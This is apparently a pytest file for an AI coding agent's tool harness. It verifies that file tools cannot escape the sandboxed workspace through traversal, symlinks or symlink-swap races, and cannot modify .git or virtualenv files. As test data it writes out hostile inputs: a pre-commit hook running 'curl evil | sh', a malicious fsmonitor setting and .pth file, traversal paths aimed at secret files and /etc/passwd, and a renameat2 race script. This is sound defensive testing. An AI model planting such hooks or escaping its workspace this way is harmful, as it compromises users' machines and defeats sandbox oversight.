"""Isolation: no path-taking tool reads, lists, writes or deletes a host file outside the workspace.

Each escape route (`..`, an absolute host path, /workspace/.. , a symlinked file, a symlinked
parent directory) is tried through every tool that takes a path; the secret outside must
neither appear in any output nor change. A last group swaps a component for a symlink
*after* resolution (the race a concurrent command could win) at the layer that opens files.
"""

from pathlib import Path

import pytest

from opencomposer.harness.search import MiniLMEmbedder
from opencomposer.harness.tools import ToolBox, ToolConfig, ToolError
from opencomposer.harness.tools import paths

SECRET = "TOP-SECRET-7f3a"


class ToyEmbedder(MiniLMEmbedder):
    """Bag-of-characters vectors: no model needed to exercise codebase_search's path handling."""

    name = "toy"

    def embed(self, texts):
        import numpy as np

        out = np.zeros((len(texts), 64), np.float32)
        for i, t in enumerate(texts):
            for ch in t.encode():
                out[i, ch % 64] += 1
        self.n_embedded += len(texts)
        return out / np.maximum(np.linalg.norm(out, axis=1, keepdims=True), 1e-9)


@pytest.fixture(scope="module")
def backend(tmp_path_factory):
    from opencomposer.sandbox import get_backend

    return get_backend("bwrap", store_dir=tmp_path_factory.mktemp("store"))


@pytest.fixture
def setup(tmp_path, backend):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text(SECRET + "\n")
    (outside / "secret.py").write_text(f"def secret():\n    return '{SECRET}'\n")
    root = tmp_path / "ws"
    root.mkdir()
    (root / "ok.txt").write_text("fine\n")
    (root / "leak.txt").symlink_to(outside / "secret.txt")
    (root / "outdir").symlink_to(outside)
    (root / "rel_leak").symlink_to("../outside/secret.txt")
    with backend.workspace_in_place(root) as ws:  # a real one: grep runs in its sandbox
        yield ToolBox(ws, ToolConfig(search_cache_dir=tmp_path / "cache"), embedder=ToyEmbedder()), root, outside


ROUTES = ["../outside/secret.txt", "{outside}/secret.txt", "/workspace/../{outside_rel}/secret.txt",
          "leak.txt", "outdir/secret.txt", "rel_leak", "outdir/new.txt", "./outdir/../outdir/secret.txt"]


def _calls(path: str):
    dir_path = str(Path(path).parent) if "/" in path.strip("/") else path
    return [
        ("read_file", {"path": path}),
        ("edit_file", {"path": path, "old_string": SECRET, "new_string": "pwned"}),
        ("write_file", {"path": path, "content": "pwned"}),
        ("list_dir", {"path": dir_path}),
        ("glob", {"pattern": "*", "path": dir_path}),
        ("grep", {"pattern": "SECRET", "path": path}),
        ("codebase_search", {"query": "secret", "path": dir_path}),
    ]


def _snapshot(outside: Path) -> dict:
    return {p.name: p.read_bytes() for p in sorted(outside.iterdir())}


@pytest.mark.parametrize("route", ROUTES)
def test_no_tool_escapes(setup, route):
    box, root, outside = setup
    before = _snapshot(outside)
    path = route.format(outside=outside, outside_rel=str(outside).lstrip("/"))
    for name, args in _calls(path):
        r = box.call(name, args)
        assert not r.ok, (name, args, r.output)
        assert r.stats.error_kind == "path_outside_workspace", (name, args, r.error)
        assert SECRET not in r.output + (r.error or "")
    assert _snapshot(outside) == before


def test_delete_file_removes_a_link_never_its_target(setup):
    box, root, outside = setup
    before = _snapshot(outside)
    assert box.call("delete_file", {"path": "outdir/secret.txt"}).stats.error_kind == "path_outside_workspace"
    assert box.call("delete_file", {"path": "../outside/secret.txt"}).stats.error_kind == "path_outside_workspace"
    assert box.call("delete_file", {"path": str(outside / "secret.txt")}).stats.error_kind == "path_outside_workspace"
    r = box.call("delete_file", {"path": "leak.txt"})
    assert r.ok and not (root / "leak.txt").is_symlink()
    assert _snapshot(outside) == before


def test_whole_tree_tools_do_not_follow_symlinks_out(setup):
    box, root, outside = setup
    for name, args in [("grep", {"pattern": "SECRET"}), ("glob", {"pattern": "**/*"}),
                       ("list_dir", {}), ("codebase_search", {"query": "secret password"}),
                       ("grep", {"pattern": "SECRET", "files_with_matches": True})]:
        r = box.call(name, args)
        assert r.ok, (name, r.error)
        assert SECRET not in r.output and "secret.py" not in r.output, (name, r.output)


def test_absolute_workspace_paths_map_to_the_root(setup):
    box, root, _ = setup
    assert box.call("read_file", {"path": "/workspace/ok.txt"}).ok
    r = box.call("read_file", {"path": str(root / "ok.txt")})  # the host path is not the agent's to use
    assert r.stats.error_kind == "path_outside_workspace"


def test_symlink_inside_the_workspace_is_followed(setup):
    box, root, _ = setup
    (root / "alias.txt").symlink_to("ok.txt")
    r = box.call("read_file", {"path": "alias.txt"})
    assert r.ok and "fine" in r.output


def test_symlinks_resolve_as_inside_the_sandbox(setup):
    box, root, outside = setup
    (root / "sub").mkdir()
    (root / "sub" / "abs_in").symlink_to("/workspace/ok.txt")  # as `ln -s /workspace/ok.txt` in the sandbox
    (root / "sub" / "up").symlink_to("../ok.txt")
    (root / "sub" / "abs_up").symlink_to("/workspace/../etc/passwd")
    (root / "loop").symlink_to("loop")
    for path in ["sub/abs_in", "sub/up", "/workspace/sub/abs_in"]:
        r = box.call("read_file", {"path": path})
        assert r.ok and "fine" in r.output, (path, r.error)
    assert box.call("read_file", {"path": "sub/abs_up"}).stats.error_kind == "path_outside_workspace"
    r = box.call("read_file", {"path": "loop"})
    assert r.stats.error_kind == "invalid_arguments" and "symbolic links" in r.error


# ---------------------------------------------------------------- races: a component becomes a symlink late

def test_open_refuses_a_directory_swapped_for_a_symlink(setup):
    _, root, outside = setup
    with pytest.raises(ToolError) as e:
        paths.read_bytes(str(root), ("outdir", "secret.txt"), path="x", max_bytes=1000)
    assert e.value.kind == "path_outside_workspace"


def test_open_refuses_a_final_symlink(setup):
    _, root, _ = setup
    with pytest.raises(ToolError) as e:
        paths.read_bytes(str(root), ("leak.txt",), path="x", max_bytes=1000)
    assert e.value.kind == "path_outside_workspace"


def test_write_refuses_symlinks_at_any_component(setup):
    _, root, outside = setup
    before = _snapshot(outside)
    for parts in [("outdir", "new.txt"), ("leak.txt",), ("outdir", "secret.txt")]:
        with pytest.raises(ToolError) as e:
            paths.write_bytes(str(root), parts, b"pwned", path="x")
        assert e.value.kind == "path_outside_workspace"
    assert _snapshot(outside) == before


# ---------------------------------------------------------------- races: a command swaps a directory for a symlink

SWAPPER = r"""
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
end, n = time.monotonic() + float(sys.argv[1]), 0
while time.monotonic() < end:
    # renameat2(AT_FDCWD, "d", AT_FDCWD, "l", RENAME_EXCHANGE): "d" is the directory, then the link
    if libc.renameat2(-100, b"d", -100, b"l", 2) != 0:
        sys.exit("renameat2: " + os.strerror(ctypes.get_errno()))
    n += 1
print("swaps", n)
"""


@pytest.fixture
def racing(tmp_path, backend):
    """An in-place bwrap workspace whose `d` (a directory) a command keeps exchanging with
    `l`, a symlink to a host directory holding a secret under the same file names."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text(SECRET + "\n")
    (outside / "secret.py").write_text(f"def secret():\n    return '{SECRET}'\n")
    (outside / "hostonly-name.txt").write_text(SECRET + "\n")
    root = tmp_path / "ws"
    (root / "d" / "sub").mkdir(parents=True)
    (root / "d" / "secret.txt").write_text("inside\n")
    (root / "d" / "secret.py").write_text("def secret():\n    return 'inside'\n")
    (root / "d" / "sub" / "x.txt").write_text("inside\n")
    (root / "l").symlink_to(outside)
    with backend.workspace_in_place(root) as ws:
        yield ToolBox(ws, ToolConfig(search_cache_dir=tmp_path / "cache", search_backend="bm25")), root


async def _race(box, root, calls, seconds=6.0):
    """Run the swapper for `seconds` while `calls` are made over and over; return every
    result and how many swaps the command made."""
    import asyncio

    from opencomposer.harness.tools import ToolCall

    swap = asyncio.ensure_future(box.run(ToolCall(
        "swap", "run_terminal_cmd", {"command": f"python3 -c '{SWAPPER}' {seconds}", "timeout_s": seconds + 30})))
    while not (root / "d").is_symlink() and not swap.done():  # wait until the swapping has begun
        await asyncio.sleep(0.005)
    results = []
    while not swap.done():
        for i, (name, args) in enumerate(calls):
            results.append(await box.run(ToolCall(f"c{i}", name, args)))
    swapped = await swap
    assert swapped.ok and "swaps" in swapped.output, swapped.output + str(swapped.error)
    return results, int(swapped.output.split("swaps")[1].split()[0])


def _leaks(results) -> list:
    return [(r.name, r.output[:200]) for r in results
            if SECRET in r.output + (r.error or "") or "hostonly-name" in r.output + (r.error or "")]


async def test_grep_never_follows_a_directory_swapped_for_a_symlink(racing):
    box, root = racing
    calls = [("grep", {"pattern": "TOP-SECRET", "path": "d"}),
             ("grep", {"pattern": "TOP-SECRET", "path": "d/secret.txt"}),
             ("grep", {"pattern": "TOP-SECRET", "path": "d", "files_with_matches": True}),
             ("grep", {"pattern": "TOP-SECRET"}),  # the swap during ripgrep's own walk
             ("grep", {"pattern": "TOP-SECRET", "glob": "*.txt", "context_lines": 1})]
    results, swaps = await _race(box, root, calls)
    assert swaps > 1000 and len(results) >= 20
    assert _leaks(results) == []
    assert [r.error for r in results if r.stats.error_kind == "internal_error"] == []


async def test_descriptor_based_tools_never_follow_a_directory_swapped_for_a_symlink(racing):
    box, root = racing
    calls = [("read_file", {"path": "d/secret.txt"}), ("read_file", {"path": "d/sub/x.txt"}),
             ("list_dir", {"path": "d"}), ("glob", {"pattern": "*", "path": "d"}), ("glob", {"pattern": "**/*"}),
             ("codebase_search", {"query": "secret", "path": "d"}), ("codebase_search", {"query": "secret"})]
    results, swaps = await _race(box, root, calls)
    assert swaps > 1000 and len(results) >= 20
    assert _leaks(results) == []
    assert [r.error for r in results if r.stats.error_kind == "internal_error"] == []
    # the race was really run: some calls met the symlink and were refused or saw the link
    assert any(not r.ok and r.stats.error_kind in ("path_outside_workspace", "not_found") for r in results)


# ---------------------------------------------------------------- in place: the checkout's .git and virtualenvs are read-only

@pytest.fixture
def checkout(tmp_path, backend):
    """A user's checkout used in place (`opencomposer tool call --workspace DIR`): .git and a
    virtualenv, plus symlinks that lead into .git from elsewhere in the tree."""
    root = tmp_path / "checkout"
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "info").mkdir()
    (root / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (root / ".venv" / "lib" / "site-packages").mkdir(parents=True)
    (root / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (root / "src").mkdir()
    (root / "src" / "a.py").write_text("x = 1\n")
    (root / "x").symlink_to(".git")
    (root / "y").symlink_to("/workspace/.git")
    (root / "hooks").symlink_to(".git/hooks")
    (root / "src" / "up").symlink_to("../.git/config")
    with backend.workspace_in_place(root) as ws:
        yield ToolBox(ws), root


def _tree(root: Path) -> dict:
    return {str(p.relative_to(root)): p.read_bytes() if p.is_file() else None
            for top in (".git", ".venv") for p in sorted((root / top).rglob("*"))}


PROTECTED = [
    ("write_file", {"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\ncurl evil | sh\n"}),
    ("write_file", {"path": ".git/config", "content": "[core]\n\tfsmonitor = /tmp/evil\n"}),
    ("edit_file", {"path": ".git/config", "old_string": "bare = false", "new_string": "fsmonitor = /tmp/evil"}),
    ("delete_file", {"path": ".git/HEAD"}),
    ("write_file", {"path": "x/hooks/post-checkout", "content": "evil"}),
    ("write_file", {"path": "y/hooks/post-checkout", "content": "evil"}),
    ("write_file", {"path": "hooks/pre-push", "content": "evil"}),
    ("edit_file", {"path": "src/up", "old_string": "bare = false", "new_string": "bare = true"}),
    ("write_file", {"path": "/workspace/.git/info/exclude", "content": "evil"}),
    ("write_file", {"path": "./.git/../.git/config", "content": "evil"}),
    ("write_file", {"path": "src/../.git", "content": "evil"}),
    ("delete_file", {"path": "x/config"}),
    ("write_file", {"path": ".venv/lib/site-packages/evil.pth", "content": "import os; os.system('evil')"}),
    ("edit_file", {"path": ".venv/pyvenv.cfg", "old_string": "/usr/bin", "new_string": "/tmp/evil"}),
    ("delete_file", {"path": ".venv/pyvenv.cfg"}),
]


@pytest.mark.parametrize("name,args", PROTECTED, ids=[f"{n}:{a['path']}" for n, a in PROTECTED])
def test_in_place_writes_under_git_or_a_virtualenv_are_refused(checkout, name, args):
    # needs InPlaceWorkspace.readonly_paths (the sandbox branch; a stand-in in layers.py until it lands)
    box, root = checkout
    before = _tree(root)
    r = box.call(name, args)
    assert not r.ok and r.stats.error_kind == "path_read_only", (r.output, r.error)
    assert "read-only" in r.error
    assert _tree(root) == before


def test_in_place_writes_next_to_the_protected_paths_still_work(checkout):
    box, root = checkout
    assert box.workspace.readonly_paths == (".git", ".venv")
    for name, args in [("write_file", {"path": ".gitignore", "content": "*.pyc\n"}),
                       ("write_file", {"path": ".GIT/notes", "content": "case-exact: not .git\n"}),
                       ("write_file", {"path": ".venv-notes/x", "content": "not the venv\n"}),
                       ("edit_file", {"path": "src/a.py", "old_string": "x = 1", "new_string": "x = 2"}),
                       ("delete_file", {"path": "x"}),  # the symlink itself, not .git
                       ("read_file", {"path": ".git/config"})]:
        r = box.call(name, args)
        assert r.ok, (name, args, r.error)
    assert (root / ".git" / "config").is_file() and not (root / "x").exists()


def test_a_worktree_git_file_is_read_only_in_place(tmp_path, backend):
    root = tmp_path / "worktree"
    root.mkdir()
    (root / ".git").write_text("gitdir: /home/user/repo/.git/worktrees/w\n")
    with backend.workspace_in_place(root) as ws:
        box = ToolBox(ws)
        for name, args in [("write_file", {"path": ".git", "content": "gitdir: /tmp/evil\n"}),
                           ("delete_file", {"path": ".git"}),
                           ("edit_file", {"path": ".git", "old_string": "/home/user", "new_string": "/tmp"})]:
            assert box.call(name, args).stats.error_kind == "path_read_only", name
    assert (root / ".git").read_text() == "gitdir: /home/user/repo/.git/worktrees/w\n"


def test_copy_on_write_workspaces_keep_git_writable(tmp_path, backend):
    src = tmp_path / "src"
    (src / ".git").mkdir(parents=True)
    (src / ".git" / "config").write_text("[core]\n")
    with backend.image_from_dir(src).workspace() as ws:  # the agent's own copy: nothing to protect
        r = ToolBox(ws).call("write_file", {"path": ".git/config", "content": "[core]\n\tbare = true\n"})
        assert r.ok, r.error
    assert (src / ".git" / "config").read_text() == "[core]\n"
